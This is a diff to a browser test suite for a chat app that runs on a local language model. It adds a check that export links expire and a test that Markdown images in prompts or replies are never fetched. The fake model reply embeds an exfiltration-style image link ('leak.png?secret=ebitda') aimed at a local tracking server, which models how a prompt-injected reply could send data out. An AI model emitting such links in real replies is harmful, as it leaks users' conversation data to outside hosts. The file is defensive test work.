@@ -14,6 +14,8 @@ no ``javascript:`` href), and the text itself is visible.
 from __future__ import annotations
 
 import re
+import urllib.error
+import urllib.request
 from collections.abc import Iterator
 from typing import Any
 from urllib.parse import quote
@@ -77,6 +79,7 @@ def app(
             "OLLAMA_HOST": fake.url,
             "OLLAMA_MODEL": fake.model,
             "LOGIN_SLEEP_TIME": "2",
+            "DOWNLOAD_LINK_SECONDS": "1",
         },
         log_path=work / "app.log",
     )
@@ -161,6 +164,13 @@ def test_the_export_of_a_session_titled_with_html_has_a_plain_file_name(page: An
         button.click()
     name = info.value.suggested_filename
     assert re.fullmatch(r"ledger-[a-z0-9-]+-[0-9a-f]{8}\.json", name), name
+    # The file is served at /media/<id>, to anyone with the link (no cookie is asked for):
+    # the link dies within DOWNLOAD_LINK_SECONDS (1 s here).
+    assert "/media/" in info.value.url and info.value.path().stat().st_size > 0
+    page.wait_for_timeout(2500)
+    with pytest.raises(urllib.error.HTTPError) as gone:
+        urllib.request.urlopen(info.value.url, timeout=5)  # noqa: S310 (the test's own app)
+    assert gone.value.code == 404
     assert name.startswith("ledger-script-alert-prompt-script-what-is-b-ebitda-b-img")
     assert_nothing_ran(page)
 
@@ -267,4 +277,59 @@ def test_a_markdown_table_in_a_reply_renders_as_a_table_with_hostile_cells_as_te
         assert_nothing_ran(tab)
     finally:
         tab.close()
+        fake.script(reply=REPLY, delay=0.01)
+
+
+class Tracker:
+    """A web server that counts the requests a page makes to it (a tracking pixel's host)."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        self.hits: list[str] = []
+        hits = self.hits
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                hits.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/png")
+                self.end_headers()
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+
+
+def test_remote_images_in_a_prompt_or_reply_are_shown_as_text_and_never_fetched(
+    page: Any, app: AppServer, fake: FakeOllama
+) -> None:
+    """A Markdown image in a message would be fetched by every viewer's browser (an admin
+    reading the conversation too): a tracking pixel, or where a prompt-injected reply sends
+    data. None is fetched, live, from history, or across a chunk boundary."""
+    tracker = Tracker()
+    fake.script(reply=f"Done ![chart]({tracker.url}/leak.png?secret=ebitda) !", delay=0.005)
+    tab = _tab(page, app.url)
+    try:
+        b.ask(tab, f"Explain ![logo]({tracker.url}/prompt.png) please")
+        b.sample_reply_growth(tab)
+        tab.reload()
+        b.idle(tab)
+        tab.locator(b.MESSAGE).last.wait_for()
+        question, answer = b.page_messages(tab)[-2:]
+        assert f"![logo]({tracker.url}/prompt.png)" in question
+        assert f"![chart]({tracker.url}/leak.png?secret=ebitda)" in answer
+        tab.wait_for_timeout(500)  # time for any late image request to arrive
+        assert tracker.hits == []
+        assert tab.locator(f'{b.MESSAGE} img[src^="{tracker.url}"]').count() == 0
+    finally:
+        tab.close()
+        tracker.close()
         fake.script(reply=REPLY, delay=0.01)
